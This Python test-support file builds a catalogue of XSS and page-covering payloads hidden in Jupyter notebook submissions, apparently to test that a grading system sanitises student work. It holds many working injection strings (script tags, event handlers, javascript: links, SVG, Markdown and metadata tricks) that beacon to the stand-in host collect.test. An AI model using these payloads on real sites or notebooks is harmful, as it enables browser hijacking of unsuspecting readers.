"""Known ways in which a submission can act in the browser of whoever reads it.

Each would, if it worked, change the title of the page, leave its name in `window.fired`, send a
request to another computer and open a dialog; or it would send a request, or cover the page.
"""

import base64
import json
from dataclasses import dataclass, field

import nbformat

from tests.support.labs import answered, grade_id

ELSEWHERE = "collect.test"  # a name that no server answers to (RFC 6761)
PIXEL = (  # a PNG picture of one pixel
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"
    "AAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)


@dataclass(frozen=True)
class Vector:
    """One way, and how a submission holds it.

    Attributes:
        name: stands in everything that it would do.
        holder: `output` of a cell, a `markdown`, `raw` or `code` cell, the `answer` that is read by
            a person, or `cell` and `notebook` for what only the file's own structure can hold.
        content: for an output: data by type, the metadata beside them under `metadata`; for the
            others their text; for `cell` and `notebook` the part of the file.
    """

    name: str
    holder: str
    content: dict | str = field(repr=False)


def script(name):
    """Return JavaScript that acts; it holds no space, no double quote and no angle bracket."""
    return (
        f"(window.fired=window.fired||[]).push('{name}');document.title='{name}';"
        f"(new(Image)).src='http://{ELSEWHERE}/{name}';alert('{name}')"
    )


def address(name):
    """Return a URL on another computer."""
    return f"http://{ELSEWHERE}/{name}"


def encoded(text):
    """Return text in base 64."""
    return base64.b64encode(text.encode()).decode()


def svg(name):
    """Return an SVG picture that acts when it is part of a page."""
    return f'<svg xmlns="http://www.w3.org/2000/svg" onload="{script(name)}"><g/></svg>'


# What is written as HTML, by name; {js} acts, {url} lies on another computer, {name} is the name.
HTML = {
    "script": "<script>{js}</script>",
    "script from elsewhere": '<script src="{url}"></script>',
    "image that fails": '<img src="nothing:" onerror="{js}">',
    "image from elsewhere": '<img src="{url}">',
    "details": '<details open ontoggle="{js}">x</details>',
    "svg element": '<svg onload="{js}"></svg>',
    "svg animation": '<svg><animate onbegin="{js}" attributeName="x" dur="1s"/></svg>',
    "frame of text": '<iframe srcdoc="<script>{js}</script>"></iframe>',
    "frame of script": '<iframe src="javascript:parent.eval(atob(`{js64}`))"></iframe>',
    "frame from elsewhere": '<iframe src="{url}"></iframe>',
    "object": '<object data="{url}"></object>',
    "style sheet from elsewhere": '<link rel="stylesheet" href="{url}">',
    "style import": "<style>@import '{url}';</style>",
    "style background": '<div style="background:url({url})" title="{name}">x</div>',
    "cover": '<div style="position:fixed;inset:0;z-index:9999" title="{name}">x</div>',
    "cover by class": '<div class="modal-backdrop navbar-fixed-top" title="{name}">x</div>',
    "refresh": '<meta http-equiv="refresh" content="0;url=#{name}">',
    "base": '<base href="{url}/">',
    "form": '<form action="{url}"><button autofocus title="{name}">Save</button></form>',
    "field with focus": '<input autofocus onfocus="{js}">',
    "link of script": '<a href="javascript:{js}">{name}</a>',
    "link with target": '<a href="{url}" target="_top">{name}</a>',
    "audio": '<audio src="{url}" autoplay></audio>',
    "video poster": '<video poster="{url}"></video>',
    "sources of an image": '<picture><source srcset="{url}"><img></picture>',
    "taken field": '<input id="memo" name="{name}" class="score" value="15">',
    "unclosed comment": "<!--><img src=nothing: onerror={js}>-->",
    "noscript": '<noscript><p title="</noscript><img src=nothing: onerror={js}>"></noscript>',
    "mathml link": '<math><mtext href="javascript:{js}">{name}</mtext></math>',
    "template": '<math><annotation-xml encoding="text/html"><img src=x: onerror={js}></math>',
}
# What is written as Markdown.
MARKDOWN = {
    "markdown link of script": "[{name}](javascript:{js})",
    "markdown link in disguise": "[{name}](&#106;avascript:{js})",
    "markdown link elsewhere": "[{name}]({url})",
    "markdown bare link": "{url}",
    "markdown image": "![{name}]({url})",
    "markdown image of data": "![{name}](data:image/svg+xml;base64,{svg64})",
    "markdown reference": "[{name}]\n\n[{name}]: javascript:{js}",
    "markdown raw html": 'a <img src="nothing:" onerror="{js}"> b',
    "markdown block of html": "<div>\n<img src=nothing: onerror={js}>\n</div>",
    "markdown heading as field": "# memo",
    "markdown mermaid": "```mermaid\n</pre><img src=nothing: onerror={js}>\n```",
    "markdown code language": '```"><img/src=nothing:onerror={js}>\nx\n```',
    "formula link": r"$\href{{javascript:{js}}}{{{name}}}$",
    "formula of html": r"$\text{{<img src=nothing: onerror={js}>}}$",
    "formula class": r"$\class{{{name}}}{{x}} \style{{position:fixed}}{{x}} \unicode{{x3c}}$",
}


def filled(texts):
    """Return texts by name with their marks filled in; names get no spaces."""
    result = {}
    for words, text in texts.items():
        name = words.replace(" ", "-")
        result[name] = text.format(
            name=name,
            js=script(name),
            js64=encoded(script(name)),
            svg64=encoded(svg(name)),
            url=address(name),
        )
    return result


def in_output(name, data, **metadata):
    """Return a vector that a cell displays."""
    return Vector(name, "output", {**data, "metadata": metadata})


def outputs():
    """Return the vectors in what a cell displays, other than HTML."""
    widget = {"model_id": "</script><script>" + script("widget") + "</script>", "version_major": 2}
    size = {"width": "1 onload=" + script("size-of-an-image")}
    names = {"filenames": {"image/png": address("name-of-an-image")}}
    isolated = f"<script>{script('isolated')}</script><img src='{address('isolated')}'>"
    return [
        in_output("javascript", {"application/javascript": script("javascript")}),
        in_output("svg", {"image/svg+xml": svg("svg")}),
        in_output("latex", {"text/latex": f"<img src=nothing: onerror={script('latex')}>"}),
        in_output("mermaid", {"text/vnd.mermaid": f"</pre><script>{script('mermaid')}</script>"}),
        in_output("widget", {"application/vnd.jupyter.widget-view+json": widget}),
        in_output("isolated", {"text/html": isolated}, **{"text/html": {"isolated": True}}),
        in_output("size-of-an-image", {"image/png": PIXEL}, **{"image/png": size}),
        in_output("name-of-an-image", {"image/png": PIXEL}, **names),
        in_output("false-png", {"image/png": f'x" onerror="{script("false-png")}'}),
        in_output("page-as-jpeg", {"image/jpeg": encoded(f"<script>{script('x')}</script>")}),
        in_output("pdf", {"application/pdf": encoded("%PDF-1.4")}),
        in_output("own-type", {"application/x-course": f"<script>{script('own-type')}</script>"}),
    ]


def structures():
    """Return the vectors that only the structure of the file can hold."""
    attached = {"a.svg": {"image/svg+xml": encoded(svg("attachment"))}}
    broken = {"b.png": {"image/png": f'x" onerror="{script("attachment-type")}'}}
    tag = f'"><img src=nothing: onerror={script("tag")}>'
    language = f'"><img src=nothing: onerror={script("language")}>'
    state = {"state": {}, "x": f"</script><script>{script('widget-state')}</script>"}
    return [
        Vector(
            "attachment",
            "cell",
            {"cell_type": "markdown", "source": "![](attachment:a.svg)", "attachments": attached},
        ),
        Vector(
            "attachment-type",
            "cell",
            {"cell_type": "markdown", "source": "![](attachment:b.png)", "attachments": broken},
        ),
        Vector(
            "tag",
            "cell",
            {"cell_type": "code", "source": "pass", "metadata": {"tags": [tag]}, "outputs": []},
        ),
        Vector(
            "language",
            "cell",
            {
                "cell_type": "code",
                "source": "pass",
                "metadata": {"magics_language": language},
                "outputs": [],
            },
        ),
        Vector(
            "widget-state",
            "notebook",
            {"widgets": {"application/vnd.jupyter.widget-state+json": state}},
        ),
        Vector(
            "language-of-the-notebook",
            "notebook",
            {"language_info": {"name": language.replace("language", "language-of-the-notebook")}},
        ),
    ]


def texts():
    """Return the vectors in plain text: what a cell prints, and its errors."""
    tag = "<img src=nothing: onerror={}>"
    return [
        Vector("printed", "code", f"print({tag.format(script('printed'))!r})"),
        Vector(
            "printed-in-colour",
            "code",
            "print('\\x1b[38;2;1;2;3m' + "
            f"{tag.format(script('printed-in-colour'))!r} + '\\x1b[0;<b>m')",
        ),
        Vector(
            "name-of-an-error",
            "code",
            f"raise type({tag.format(script('name-of-an-error'))!r}, (Exception,), {{}})('x')",
        ),
        Vector(
            "message-of-an-error",
            "code",
            f"raise ValueError({tag.format(script('message-of-an-error'))!r})",
        ),
        Vector("magic", "code", f"%%html\n<script>{script('magic')}</script>"),
    ]


def all_vectors():
    """Return every vector; names are unique."""
    found = [in_output(name, {"text/html": text}) for name, text in filled(HTML).items()]
    found += [Vector(name, "markdown", text) for name, text in filled(MARKDOWN).items()]
    for words in ("script", "image that fails", "link of script", "cover"):
        for holder in ("answer", "raw", "text/markdown"):
            ((name, text),) = filled({f"{words} in {holder.split('/')[-1]}": HTML[words]}).items()
            in_cell = Vector(name, holder, text)
            found.append(in_output(name, {holder: text}) if "/" in holder else in_cell)
    return [*found, *outputs(), *structures(), *texts()]


# --- A submission that holds them -----------------------------------------------------------------


def displaying(content):
    """Return code that displays an output."""
    data = {kind: value for kind, value in content.items() if kind != "metadata"}
    arguments = f"{json.dumps(data)!r}), metadata=json.loads({json.dumps(content['metadata'])!r})"
    return (
        "import json\nfrom IPython.display import display\n"
        f"display(json.loads({arguments}, raw=True)"
    )


def cell_of(vector):
    """Return the cell of a notebook's file that holds a vector; None for what no cell holds."""
    kinds = {"markdown": "markdown", "raw": "raw", "code": "code", "output": "code"}
    if vector.holder == "cell":
        cell = dict(vector.content)
    elif vector.holder in kinds:
        text = displaying(vector.content) if vector.holder == "output" else vector.content
        cell = {"cell_type": kinds[vector.holder], "source": text}
    else:
        return None
    cell.setdefault("metadata", {})
    if cell["cell_type"] == "code":
        cell.update({"outputs": [], "execution_count": None})
    cell["id"] = vector.name
    return cell


def notebook_with(notebook, vectors, after, answer):
    """Return a notebook that holds vectors, as a student can make it.

    Args:
        notebook: a student version; it stays as it is.
        vectors: what it shall hold.
        after: the name of the cell behind which their cells stand.
        answer: the name of the answer, read by a person, that holds the vectors for one.
    """
    texts = [vector.content for vector in vectors if vector.holder == "answer"]
    mine = answered(notebook, {answer: "\n\n".join(["My memo.", *texts])})
    place = 1 + next(i for i, cell in enumerate(mine.cells) if grade_id(cell) == after)
    cells = [nbformat.from_dict(cell) for vector in vectors if (cell := cell_of(vector))]
    mine.cells[place:place] = cells
    for vector in vectors:
        if vector.holder == "notebook":
            mine.metadata.update(vector.content)
    return mine
